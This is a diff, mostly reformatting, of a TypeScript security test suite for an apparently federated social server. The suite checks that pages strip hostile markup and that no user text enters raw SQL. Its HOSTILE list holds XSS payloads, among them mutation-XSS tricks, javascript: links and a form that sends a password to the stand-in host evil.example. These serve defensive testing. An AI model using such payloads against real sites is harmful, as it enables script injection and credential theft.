@@ -14,7 +14,10 @@ import { plan } from "../../packages/server/test/support/planning.ts";
 import { podPost } from "../../packages/server/test/support/pod-entities.ts";
 import { idOf } from "../../packages/server/test/support/proving-actor.ts";
 import type { RemoteActor } from "../../packages/server/test/support/remote-server.ts";
-import { fillPath, listRoutes } from "../../packages/server/test/support/routes.ts";
+import {
+  fillPath,
+  listRoutes,
+} from "../../packages/server/test/support/routes.ts";
 import { befriend } from "../../packages/server/test/support/several-servers.ts";
 import type { PostRecord } from "../../packages/server/test/support/wire.ts";
 import { listProjectFiles, root } from "../../scripts/project-files.ts";
@@ -27,11 +30,11 @@ const HOSTILE = [
   "'><svg onload=hostile(1)>",
   "<form action=https://evil.example/><input name=password></form>",
   "<iframe srcdoc='<script>hostile(1)</script>'></iframe>",
-  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hostile(1)&gt;\">",
-  "<noscript><p title=\"</noscript><img src=x onerror=hostile(1)>\">",
-  "<a href=\"javascript:hostile(1)\">x</a>",
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hostile(1)&gt;">',
+  '<noscript><p title="</noscript><img src=x onerror=hostile(1)>">',
+  '<a href="javascript:hostile(1)">x</a>',
   "[x](javascript:hostile(1))",
-  "![x](x \"onerror=hostile(1)\")",
+  '![x](x "onerror=hostile(1)")',
   "<b onmouseover=hostile(1)>x</b>",
   "<base href=https://evil.example/><style>@import '//evil.example'</style>",
   "</title><script>hostile(1)</script>",
@@ -44,7 +47,9 @@ const ATTRIBUTES = /\s([a-z][\w-]*)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)/gi;
 
 /** What a page of ours never has, whoever wrote what is on it. */
 function assertHarmless(html: string, what: string): void {
-  for (const [tag = ""] of html.matchAll(/<[a-z](?:"[^"]*"|'[^']*'|[^"'>])*>/gi)) {
+  for (const [tag = ""] of html.matchAll(
+    /<[a-z](?:"[^"]*"|'[^']*'|[^"'>])*>/gi,
+  )) {
     assert.doesNotMatch(tag, FORBIDDEN_TAGS, what);
     for (const [, name = "", value = ""] of tag.matchAll(ATTRIBUTES)) {
       assert.doesNotMatch(name, /^(on|style$|srcdoc$)/i, `${what} ${tag}`);
@@ -89,7 +94,14 @@ forEachDatabase((kind) => {
         name: hostile,
         location: { type: "Place", name: hostile, latitude: 1, longitude: 1 },
         tag: [{ type: "Hashtag", name: `#${hostile}`, href: hostile }],
-        attachment: [{ type: "Image", mediaType: "image/png", url: "https://a.example/x.png", name: hostile }],
+        attachment: [
+          {
+            type: "Image",
+            mediaType: "image/png",
+            url: "https://a.example/x.png",
+            name: hostile,
+          },
+        ],
       });
       await eve.tell(kith(), create(eve, note));
       const post = podPost(bob, {
@@ -262,7 +274,15 @@ forEachDatabase((kind) => {
           !/\*|\/ap\/|\/users$|\/self\/move|\/password$/.test(at),
       );
       assert.ok(routes.length > 40, String(routes.length));
-      const wanted = { name: "n", post: "p", comment: "c", tags: "t", Bio: "b", summary: "s", start: "2026-03-10T09:00:00Z" };
+      const wanted = {
+        name: "n",
+        post: "p",
+        comment: "c",
+        tags: "t",
+        Bio: "b",
+        summary: "s",
+        start: "2026-03-10T09:00:00Z",
+      };
       for (const { method, path: at } of routes) {
         const called = fillPath(at.replace("/api/v0", ""), { tag: "x" });
         const json = { ...EXTRA, ...wanted };
@@ -280,7 +300,11 @@ forEachDatabase((kind) => {
     });
 
     test("case 58: nor with a sign-up or a request for a token", async () => {
-      const form = { username: "climber", password: "correct horse", confirm: "correct horse" };
+      const form = {
+        username: "climber",
+        password: "correct horse",
+        confirm: "correct horse",
+      };
       const extra = Object.fromEntries(
         Object.entries(EXTRA)
           .filter(([name]) => name !== "username")
@@ -303,16 +327,36 @@ forEachDatabase((kind) => {
       assert.ok(row.id > 1);
     });
 
-    const users = () => kith().db.read.selectFrom("users").selectAll().orderBy("id");
+    const users = () =>
+      kith().db.read.selectFrom("users").selectAll().orderBy("id");
     async function accountOf({ record }: TestPerson) {
-      const row = await users().where("id", "=", record.UserID ?? 0).executeTakeFirstOrThrow();
-      const { last_seen_at: _, updated_at: __, locale: ___, time_zone: ____, ...account } = row;
-      const keys = await kith().db.read.selectFrom("user_keys").selectAll().where("user_id", "=", row.id).execute();
+      const row = await users()
+        .where("id", "=", record.UserID ?? 0)
+        .executeTakeFirstOrThrow();
+      const {
+        last_seen_at: _,
+        updated_at: __,
+        locale: ___,
+        time_zone: ____,
+        ...account
+      } = row;
+      const keys = await kith()
+        .db.read.selectFrom("user_keys")
+        .selectAll()
+        .where("user_id", "=", row.id)
+        .execute();
       return { account, keys };
     }
     async function everybodyBut({ record }: TestPerson) {
-      const rows = await users().where("id", "!=", record.UserID ?? 0).execute();
-      const people = await kith().db.read.selectFrom("people").selectAll().where("id", "!=", record.ID).orderBy("id").execute();
+      const rows = await users()
+        .where("id", "!=", record.UserID ?? 0)
+        .execute();
+      const people = await kith()
+        .db.read.selectFrom("people")
+        .selectAll()
+        .where("id", "!=", record.ID)
+        .orderBy("id")
+        .execute();
       return { rows, people };
     }
   });
@@ -321,9 +365,23 @@ forEachDatabase((kind) => {
 test("case 59: no text of anybody's becomes part of a statement", () => {
   const src = "packages/server/src/";
   const raw = listProjectFiles([src])
-    .filter((file) => file.endsWith(".ts") && !/\.(test|fixture)\.ts$/.test(file))
-    .filter((file) => /\bsql\.(raw|lit)\b/.test(readFileSync(path.join(root, file), "utf8")));
+    .filter(
+      (file) => file.endsWith(".ts") && !/\.(test|fixture)\.ts$/.test(file),
+    )
+    .filter((file) =>
+      /\bsql\.(raw|lit)\b/.test(readFileSync(path.join(root, file), "utf8")),
+    );
   // What is put in there are names of ours: of columns, types, settings, and statements of migrations.
-  const known = ["features/moves/move-store.ts", "db/dialect.ts", "db/migrate.ts", "db/examine-database.ts", "jobs/job-store.ts"];
-  assert.deepEqual(raw.sort(), known.map((file) => src + file).sort(), "a value belongs into a parameter");
+  const known = [
+    "features/moves/move-store.ts",
+    "db/dialect.ts",
+    "db/migrate.ts",
+    "db/examine-database.ts",
+    "jobs/job-store.ts",
+  ];
+  assert.deepEqual(
+    raw.sort(),
+    known.map((file) => src + file).sort(),
+    "a value belongs into a parameter",
+  );
 });
